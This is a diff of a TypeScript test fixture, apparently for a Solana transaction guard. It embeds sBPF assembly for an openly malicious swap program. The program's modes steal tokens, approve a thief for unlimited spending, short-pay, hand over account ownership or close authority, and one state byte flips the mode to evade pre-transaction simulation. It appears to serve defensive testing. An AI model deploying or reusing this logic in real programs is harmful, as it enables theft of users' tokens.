@@ -8,15 +8,28 @@ import type { Instruction } from '../../solana/guard/support/instructions.ts';
 import { assembledProgram, installProgram } from './assembled-program.ts';
 
 /**
- * What the venue does beside the swap: nothing; takes 500 units of a token account that the instruction merely lists as
- * writable; or lets the thief spend all that the sold account will ever hold. One byte of the venue's own account says
- * which, so it can change after a simulation.
+ * What the venue does beside the swap. One byte of its own account says which, so it can change after a simulation.
  */
-export const MODES = { honest: 0, takesOtherToken: 1, approvesThief: 2 } as const;
+export const MODES = {
+  honest: 0,
+  /** Takes `TAKEN` of a token account that the instruction merely lists as writable. */
+  takesOtherToken: 1,
+  /** Lets the thief spend whatever the sold account will ever hold. */
+  approvesThief: 2,
+  /** Takes one unit more of the sold token. */
+  takesMore: 3,
+  /** Pays `SHORT` less than at par. */
+  paysLess: 4,
+  /** Makes the thief owner of the account that is merely listed. */
+  takesAccount: 5,
+  /** Lets the thief close the sold account. */
+  mayClose: 6,
+} as const;
 export type Mode = (typeof MODES)[keyof typeof MODES];
 
 export const TAKEN = 500n;
 export const APPROVED = 2n ** 64n - 1n;
+export const SHORT = 200_001n;
 
 /** Where the accounts stand: as in a swap of the SPL token-swap program, pool mint and fee account being something else. */
 const SOURCE = `
@@ -32,12 +45,24 @@ const SOURCE = `
 .equ TOKEN, 9
 .equ TRANSFER, 3        ; instructions of SPL Token
 .equ APPROVE, 4
+.equ SET_AUTHORITY, 6
+.equ OWNER_OF_ACCOUNT, 2
+.equ CLOSE_ACCOUNT, 3
+; A call, behind the accounts in the heap: instruction (40 bytes), three metas, data, the seed of the state's address.
+.equ CALL, 0x4000
+.equ METAS, 64
+.equ CALL_DATA, 128
+.equ SEED, 192
+.equ SEEDS, 200
+.equ SIGNERS, 216
 
   call read_input
-  lddw r9, HEAP
+  lddw r9, HEAP         ; r9: accounts, r8: amount, r7: the byte that decides, r6: where a call is put together
   ldxdw r8, [r9+DATA]
   ldxdw r8, [r8+1]      ; amount in, behind the number of the instruction
-  add64 r9, INFOS       ; r9: accounts, r8: amount, r7: the byte that decides
+  mov64 r6, r9
+  add64 r6, CALL
+  add64 r9, INFOS
   ldxdw r7, [r9+ACCOUNT_DATA]
   ldxb r7, [r7]
   mov64 r1, TRANSFER
@@ -45,49 +70,88 @@ const SOURCE = `
   mov64 r3, SOLD
   mov64 r4, VAULT_IN
   mov64 r5, PERSON
-  call call_token
+  call move_token
   jne r0, 0, end
-  mov64 r1, TRANSFER    ; at par
+  jne r7, ${MODES.paysLess}, at_par
+  sub64 r8, ${SHORT}
+at_par:
+  mov64 r1, TRANSFER
   mov64 r2, r8
   mov64 r3, VAULT_OUT
   mov64 r4, BOUGHT
   mov64 r5, STATE
-  call call_token
+  call move_token
   jne r0, 0, end
-  jeq r7, 1, take_other
-  jeq r7, 2, approve_thief
-  mov64 r0, 0
+  mov64 r5, PERSON
+  jeq r7, ${MODES.takesOtherToken}, take_other_token
+  jeq r7, ${MODES.approvesThief}, approve_thief
+  jeq r7, ${MODES.takesMore}, take_more
+  jeq r7, ${MODES.takesAccount}, take_account
+  jeq r7, ${MODES.mayClose}, let_close
 end:
   exit
-take_other:
+take_other_token:
   mov64 r1, TRANSFER
   mov64 r2, ${TAKEN}
   mov64 r3, OTHER
   mov64 r4, LOOT
-  mov64 r5, PERSON
-  call call_token
+  call move_token
   exit
 approve_thief:
   mov64 r1, APPROVE
-  mov64 r2, -1
+  mov64 r2, ${BigInt.asIntN(64, APPROVED)}
   mov64 r3, SOLD
   mov64 r4, THIEF
-  mov64 r5, PERSON
+  call move_token
+  exit
+take_more:
+  mov64 r1, TRANSFER
+  mov64 r2, 1
+  mov64 r3, SOLD
+  mov64 r4, VAULT_IN
+  call move_token
+  exit
+take_account:
+  mov64 r2, OWNER_OF_ACCOUNT
+  mov64 r3, OTHER
+  call set_authority
+  exit
+let_close:
+  mov64 r2, CLOSE_ACCOUNT
+  mov64 r3, SOLD
+  call set_authority
+  exit
+
+; r1 instruction, r2 amount, r3 from, r4 to, r5 who signs (numbers of accounts).
+move_token:
+  stxb [r6+CALL_DATA], r1
+  stxdw [r6+129], r2
+  mov64 r1, 9
   call call_token
   exit
 
-; Calls SPL Token: r1 instruction, r2 amount, r3 from, r4 to, r5 who signs (numbers of accounts).
-; Behind the accounts in the heap: the instruction (40 bytes), three metas, its data, a seed of the state's address.
-.equ CALL, 0x4000
-.equ METAS, 64
-.equ CALL_DATA, 128
-.equ SEED, 160
-.equ SEEDS, 168
+; Gives the thief the authority r2 over account r3. The person, who signs, is named twice: more signers change nothing.
+set_authority:
+  stb [r6+CALL_DATA], SET_AUTHORITY
+  stxb [r6+129], r2
+  stb [r6+130], 1
+  ldxdw r2, [r9+56]     ; key of THIEF
+  ldxdw r1, [r2]
+  stxdw [r6+131], r1
+  ldxdw r1, [r2+8]
+  stxdw [r6+139], r1
+  ldxdw r1, [r2+16]
+  stxdw [r6+147], r1
+  ldxdw r1, [r2+24]
+  stxdw [r6+155], r1
+  mov64 r1, 35
+  mov64 r4, PERSON
+  call call_token
+  exit
+
+; Calls SPL Token with r1 bytes of data and the accounts r3, r4 and r5, of which the first is written and the last signs.
 call_token:
-  lddw r6, HEAP
-  add64 r6, CALL
-  stxb [r6+CALL_DATA], r1
-  stxdw [r6+129], r2
+  stxdw [r6+32], r1
   mul64 r3, INFO_BYTES
   add64 r3, r9
   ldxdw r3, [r3+KEY]
@@ -114,24 +178,23 @@ call_token:
   mov64 r3, r6
   add64 r3, CALL_DATA
   stxdw [r6+24], r3
-  stdw [r6+32], 9
   ldxdw r3, [r9+ACCOUNT_DATA]
   ldxb r3, [r3+1]       ; the bump is the only seed
   stxb [r6+SEED], r3
   mov64 r3, r6
   add64 r3, SEED
   stxdw [r6+SEEDS], r3
-  stdw [r6+176], 1
+  stdw [r6+208], 1
   mov64 r3, r6
   add64 r3, SEEDS
-  stxdw [r6+184], r3
-  stdw [r6+192], 1
+  stxdw [r6+SIGNERS], r3
+  stdw [r6+224], 1
   mov64 r1, r6
   mov64 r2, r9
   lddw r3, HEAP
   ldxdw r3, [r3]
   mov64 r4, r6
-  add64 r4, 184
+  add64 r4, SIGNERS
   mov64 r5, 1
   call sol_invoke_signed_c
   exit
